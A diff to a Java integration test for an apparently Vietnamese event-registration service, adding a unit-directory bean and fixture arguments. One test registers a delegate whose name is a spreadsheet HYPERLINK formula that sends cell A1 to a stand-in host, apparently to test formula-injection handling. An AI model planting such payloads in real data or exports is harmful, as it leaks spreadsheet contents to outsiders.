@@ -43,6 +43,9 @@ class RegistrationLifecycleIT {
     WebTestClient http;
 
     @Autowired
+    io.hoithao.platform.units.KnownUnits units;
+
+    @Autowired
     org.springframework.boot.web.server.context.WebServerApplicationContext context;
 
     final TestMessages messages = new TestMessages();
@@ -168,7 +171,7 @@ class RegistrationLifecycleIT {
         LocalDate day1 = LocalDate.of(2025, 10, 25);
         LocalDate day2 = day1.plusDays(1);
         f.send(new EventPublished(UUID.randomUUID(), Instant.now(), eventId, "Hội nghị sơ kết chuyên đề", "CONFERENCE",
-                "PROVINCE", "Sở GD&ĐT Bắc Kạn", day1, day2, "Asia/Ho_Chi_Minh", 3));
+                "PROVINCE", "Sở GD&ĐT Bắc Kạn", day1, day2, "Asia/Ho_Chi_Minh", 3, TestDirectory.id("Sở GD&ĐT Bắc Kạn")));
         f.send(new RegistrationOpened(UUID.randomUUID(), Instant.now(), eventId, "Hội nghị sơ kết chuyên đề", 3, null));
         f.awaitEvent(eventId, seats -> seats.jsonPath("$.registrationOpen").isEqualTo(true)
                 .jsonPath("$.days.length()").isEqualTo(2));
@@ -218,6 +221,7 @@ class RegistrationLifecycleIT {
         Fixtures f = fixtures();
         String eventId = f.openEvent(2);
         String formula = "=HYPERLINK(\"http://thu-thap.example/?d=\"&A1,\"Bấm vào đây\")";
+        TestDirectory.add(units, formula); // a unit of the directory so named (the events service's rules aside)
         String code = (String) f.registered(Fixtures.delegate(eventId, "congthuc@mn.edu.vn", formula)).get("confirmationCode");
         checkIn(code, LocalDate.of(2025, 10, 25)).expectStatus().isOk(); // a day, so the attendance has a row
 
